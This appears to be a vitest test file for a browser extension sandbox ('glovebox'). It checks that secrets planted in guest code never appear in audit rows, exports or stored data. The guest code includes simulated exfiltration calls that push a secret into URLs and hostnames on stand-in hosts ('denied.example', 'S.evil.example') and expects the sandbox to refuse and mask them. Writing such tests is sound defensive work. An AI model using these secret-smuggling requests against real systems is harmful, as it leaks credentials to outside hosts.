/** Secrets are planted wherever a guest, a server or an app can put one; no row, export or stored block may hold any of them. */
import { expect, inject, test } from 'vitest'
import { logsOf, openBox, pkg, uniqueName } from './box-harness.ts'

const { origin } = inject('server')

const SECRET = 'pl4nted-s3cret'
const CODE = `
  const S = '${SECRET}'
  const quiet = async (run) => { try { return await run() } catch (error) { return String(error) } }
  export const all = async (origin, body) => {
    await quiet(async () => (await fetch(origin + '/echo/' + S + '?token=' + S + '#' + S, { headers: { authorization: S, 'x-request-id': S } })).text())
    await quiet(async () => (await fetch(origin + '/echo', { method: 'POST', body: S + body, headers: { 'content-type': 'text/' + S } })).text())
    await quiet(() => fetch(origin.replace('//', '//user:' + S + '@') + '/echo'))
    await quiet(() => fetch('https://denied.example/' + S + '?' + S))
    await quiet(() => fetch(origin + '/' + S, { method: S }))
    await quiet(() => fetch(S + '://' + S))
    await quiet(() => glovebox.storage.set('notes/' + S, { [S]: S }))
    await quiet(() => glovebox.storage.get('other/' + S))
    await quiet(() => glovebox.storage.get(S.repeat(2000)))
    await quiet(() => glovebox.storage.list({ prefix: 'notes/' + S }))
    await quiet(() => glovebox.permissions?.request(S))
    console.log(S, { S }, new Error(S))
  }
  export const fail = () => { throw Object.assign(new Error(S), { name: S, code: S }) }
  export const ${'s3cret_' + SECRET.replaceAll('-', '_')} = () => { for (;;); }
`
const permissions = [
  { name: 'storage:read', scope: { prefixes: ['notes/'] }, reason: 'to test' },
  { name: 'storage:write', scope: { prefixes: ['notes/'] }, reason: 'to test' },
  { name: 'http:read', scope: { origins: [origin], redirects: false }, reason: 'to test' },
  { name: 'http:write', scope: { origins: [origin], redirects: false }, reason: 'to test' },
]

test('no secret that passes through reaches the audit log', async () => {
  const name = uniqueName()
  const box = await openBox({ store: 'indexeddb', name })
  const extension = await box.install(pkg(CODE, { permissions }))
  await extension.call('all', [origin, SECRET])
  await extension.call('fail', [SECRET]).catch(() => {})
  await extension.call(`s3cret_${SECRET.replaceAll('-', '_')}`, [SECRET], { timeoutMs: 300 }).catch(() => {})
  await extension.call(SECRET, [SECRET]).catch(() => {})

  await expect.poll(async () => (await box.audit.query({ kind: 'stream' })).rows.length).toBeGreaterThanOrEqual(2)
  const { rows } = await box.audit.query({ limit: 1000 })
  expect(rows.length).toBeGreaterThan(10)
  const texts = [JSON.stringify(rows), await new Response(box.audit.export()).text(), JSON.stringify(await readTable(name))]
  for (const text of texts) {
    for (const form of [SECRET, SECRET.replaceAll('-', '_'), btoa(SECRET).slice(0, 12), 'user:']) expect(text).not.toContain(form)
  }
  // The origin that was refused is what an auditor looks for.
  expect(texts[1]).toContain('GET https://denied.example')
})

test('a bound secret in the host of a refused request reaches neither the audit log nor, later, a line of the log', async () => {
  const secret = 'pl4nted-s3cret-of-its-own-0123'
  const box = await openBox()
  const extension = await box.install(pkg(`
    const S = '${secret}'
    export const keep = () => glovebox.vault.set('mine', S)
    export const visit = (host) => fetch('https://' + host.replace('S', S) + '/').catch((error) => error.code)
    export const log = () => console.log('here: ' + S)`, {
    permissions: ['vault:write', 'vault:use'].map((name): object => ({ name, scope: { secrets: ['mine'] }, reason: '' })).concat(permissions.slice(2)),
  }))
  const lines = logsOf(extension)
  await box.vault.bind(extension, 'mine', { origin, path: '/echo', methods: ['GET'], header: 'authorization' })
  await extension.call('keep')
  for (const host of ['S.evil.example', 'where.the.log.cuts.what.a.guest.writes.into.a.host.S.evil.example']) {
    expect(await extension.call('visit', [host])).toBe('permission-denied')
  }
  await extension.call('log')
  await expect.poll(() => lines.length).toBe(1)

  const text = await new Response(box.audit.export()).text()
  for (const told of [text, JSON.stringify(lines)]) expect(told).not.toContain(secret.slice(0, 8))
  expect(text).toContain(`GET https://${'*'.repeat(secret.length)}.evil.example`)
})

/** As another tab would read it. */
async function readTable(name: string): Promise<unknown> {
  const connection = await new Promise<IDBDatabase>((resolve, reject) => {
    const request = indexedDB.open(`glovebox:${name}`)
    request.onsuccess = () => resolve(request.result)
    request.onerror = () => reject(request.error)
  })
  try {
    const request = connection.transaction('audit').objectStore('audit').getAll()
    const all = await new Promise<unknown[]>((resolve, reject) => {
      request.onsuccess = () => resolve(request.result)
      request.onerror = () => reject(request.error)
    })
    expect(all.find((value) => value instanceof CryptoKey)).toMatchObject({ extractable: false })
    return all
  } finally {
    connection.close()
  }
}
